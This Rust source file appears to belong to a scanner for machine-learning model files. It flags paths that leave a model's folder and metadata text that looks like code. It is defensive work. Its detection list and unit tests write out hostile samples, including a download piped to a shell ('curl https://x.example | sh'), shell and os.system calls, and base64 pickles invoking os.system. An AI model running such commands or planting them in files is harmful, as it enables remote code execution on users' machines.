//! Checks on strings found inside models, shared by every family: paths
//! that leave the model's folder, and free text that carries code.

/// Why an external data location leaves the model's folder, if it does.
pub fn location_problem(location: &str) -> Option<&'static str> {
    if location.is_empty() {
        return Some("is empty");
    }
    if location.contains('\0') {
        return Some("contains a NUL byte");
    }
    if location.starts_with('/') || location.starts_with('\\') {
        return Some("is an absolute path");
    }
    let bytes = location.as_bytes();
    if bytes.len() >= 2
        && bytes.first().is_some_and(u8::is_ascii_alphabetic)
        && bytes.get(1) == Some(&b':')
    {
        return Some("is an absolute Windows path");
    }
    if location.contains("://") {
        return Some("is a URL");
    }
    if location.split(['/', '\\']).any(|part| part == "..") {
        return Some("climbs out of the model's folder with `..`");
    }
    if location.starts_with('~') {
        return Some("names a home directory");
    }
    None
}

/// What [`suspicious_text`] calls a URL: the one pattern that is common in
/// honest text, which callers report at a lower severity.
pub const A_URL: &str = "a URL";

/// Substrings (matched in ASCII lower case) that make free text look like
/// code, a command or a download, with what they show. Code first, URLs last:
/// the first match names the finding.
const PATTERNS: &[(&str, &str)] = &[
    ("__import__", "Python code (`__import__`)"),
    ("import os", "Python code (`import os`)"),
    ("import subprocess", "Python code (`import subprocess`)"),
    ("os.system", "Python code (`os.system`)"),
    ("subprocess", "Python code (`subprocess`)"),
    ("exec(", "Python code (`exec`)"),
    ("eval(", "Python code (`eval`)"),
    ("pickle.loads", "Python code (`pickle.loads`)"),
    ("marshal.loads", "Python code (`marshal.loads`)"),
    ("b64decode(", "code decoding base64"),
    ("| sh", "a shell pipeline"),
    ("|sh", "a shell pipeline"),
    ("| bash", "a shell pipeline"),
    ("/bin/sh", "a shell command"),
    ("/bin/bash", "a shell command"),
    ("curl ", "a download command"),
    ("wget ", "a download command"),
    ("powershell", "a PowerShell command"),
    ("<script", "a script tag"),
    ("javascript:", "a javascript: URL"),
];

/// What makes free text in a model (ONNX metadata and doc strings,
/// safetensors `__metadata__`) look like a payload, if anything: code, a
/// command, a script, terminal escapes, a base64 pickle or ([`A_URL`]) a URL.
pub fn suspicious_text(value: &str) -> Option<&'static str> {
    let lower = value.to_ascii_lowercase();
    if let Some((_, what)) = PATTERNS.iter().find(|(p, _)| lower.contains(p)) {
        return Some(what);
    }
    if value.contains('\u{1b}') {
        return Some("terminal escape sequences");
    }
    // A pickle (protocol 2-5) raw or base64-encoded (`gASV` is `\x80\x04\x95`).
    let trimmed = value.trim_start();
    if trimmed.starts_with("gASV") || trimmed.starts_with("gAN") || trimmed.starts_with("gAJ") {
        return Some("a base64-encoded pickle");
    }
    if lower.contains("http://") || lower.contains("https://") {
        return Some(A_URL);
    }
    None
}

/// Whether a path names something outside the model's own folder.
pub fn leaves_model(path: &str) -> bool {
    let p = path.trim_start_matches("file://");
    p.starts_with('/')
        || p.starts_with('\\')
        || p.starts_with('~')
        || p.as_bytes().get(1) == Some(&b':')
        || p.split(['/', '\\']).any(|c| c == "..")
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod tests {
    use super::*;

    /// One sample per pattern of the two checks this one replaces: the
    /// safetensors metadata check (`formats/tensors/mod.rs`) and the ONNX
    /// metadata check (`formats/graphs/content.rs`). Each still hits.
    #[test]
    fn both_former_pattern_sets_still_hit() {
        let tensors = [
            "os.system('id')",
            "from subprocess import run",
            "__import__('os')",
            "eval(x)",
            "exec(x)",
            "import os",
            "/bin/sh -c id",
            "/bin/bash -c id",
            "x | sh",
            "x |sh",
            "x | bash",
            "curl example.org",
            "wget example.org",
            "PowerShell -enc",
            "<SCRIPT>alert(1)",
            "see http://example.org",
            "see HTTPS://example.org",
        ];
        let graphs = [
            "__import__('os')",
            "import os",
            "import subprocess",
            "os.system('id')",
            "subprocess.run",
            "exec(x)",
            "eval(x)",
            "pickle.loads(b)",
            "marshal.loads(b)",
            "base64.b64decode(s)",
            "x | sh",
            "x |sh",
            "x | bash",
            "/bin/sh",
            "/bin/bash",
            "powershell",
            "<script src=x>",
            "javascript:alert(1)",
            "\u{1b}[2Jcleared",
            "gASVKAAAAAAAAACMBXBvc2l4",
            "  gANjb3MKc3lzdGVtCg==",
            "gAJjb3MKc3lzdGVtCg==",
        ];
        for text in tensors.iter().chain(graphs.iter()) {
            assert!(suspicious_text(text).is_some(), "{text:?}");
        }
    }

    #[test]
    fn urls_are_named_as_urls_and_code_wins_over_a_url() {
        assert_eq!(suspicious_text("https://example.org/model"), Some(A_URL));
        assert_eq!(
            suspicious_text("curl https://x.example | sh"),
            Some("a shell pipeline")
        );
    }

    #[test]
    fn honest_text_is_not_suspicious() {
        for text in [
            "ResNet-50 trained on ImageNet",
            "pt",
            "Apache-2.0",
            "a model for execution-time prediction",
            "gA",
        ] {
            assert_eq!(suspicious_text(text), None, "{text:?}");
        }
    }
}
